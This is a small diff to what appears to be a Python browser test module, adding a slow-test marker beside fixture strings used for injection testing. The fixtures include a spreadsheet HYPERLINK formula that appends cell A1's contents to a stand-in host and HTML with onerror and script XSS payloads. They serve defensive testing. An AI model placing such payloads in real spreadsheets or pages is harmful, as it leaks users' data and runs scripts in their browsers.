@@ -15,6 +15,7 @@ from tests.browser.conftest import watched_page
 from tests.browser.sample import sample_view
 from tests.browser.sample_tables import FUZZ
 
+pytestmark = pytest.mark.slow  # run by .ci/run and the long lane
 FORMULA = '=HYPERLINK("http://x.example/?"&A1,"click")'
 HTML = "<img src=x onerror='window.hacked=5'><script>window.hacked=6</script>"
 TEXTS = [
